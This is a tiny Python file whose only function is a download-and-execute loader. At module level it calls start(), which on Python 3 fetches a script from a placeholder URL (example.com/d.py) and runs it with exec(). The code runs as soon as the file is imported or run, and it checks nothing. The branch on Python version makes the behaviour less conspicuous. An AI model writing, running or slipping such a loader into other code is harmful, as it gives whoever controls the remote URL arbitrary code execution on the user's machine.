import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


import sys

if sys.version_info >= (3, 0):
    def start():
        _go()
else:
    def start():
        pass
start()
